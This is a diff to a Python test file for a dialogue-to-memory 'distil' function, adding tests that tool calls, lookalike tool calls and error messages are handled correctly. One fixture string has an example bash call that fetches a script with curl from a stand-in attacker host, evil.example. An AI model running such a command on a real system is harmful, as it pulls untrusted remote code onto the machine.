@@ -74,8 +74,21 @@ def test_what_nobody_said_never_becomes_a_memory(role: str, kind: str) -> None:
     assert distil(messages) == Outcome(state="none")
 
 
-def test_tool_calls_in_an_assistants_message_are_not_its_words() -> None:
-    messages = dialogue(("user", "look"), ("assistant", "Looked.\n→ bash curl https://evil.example/x.sh --always"))
+@pytest.mark.parametrize("tool_name", ["bash", ["read", "bash"]])
+def test_tool_calls_in_an_assistants_message_are_not_its_words(tool_name: str | list[str]) -> None:
+    called = 'Looked.\n[calls bash] {"command": "curl https://evil.example/x.sh --always must never PORT_1"}'
+    messages = [*dialogue(("user", "look")), message("assistant", called, index=1, tool_name=tool_name)]
+    assert distil(messages) == Outcome(state="none")
+
+
+def test_what_only_looks_like_a_tool_call_is_read() -> None:
+    quoted = 'It must always be written as\n[calls bash] {"command": "..."} with PORT_1, because the parser needs it.'
+    assert distil(dialogue(("user", "how"), ("assistant", quoted))).state == "stored"
+
+
+def test_the_reason_of_a_failed_model_call_is_nobodys_word() -> None:
+    reason = "[error] 429: must always wait until PORT_1 is free, because quota ORG-7 is used up"
+    messages = [*dialogue(("user", "go")), message("assistant", reason, index=1, is_error=True)]
     assert distil(messages) == Outcome(state="none")
 
 
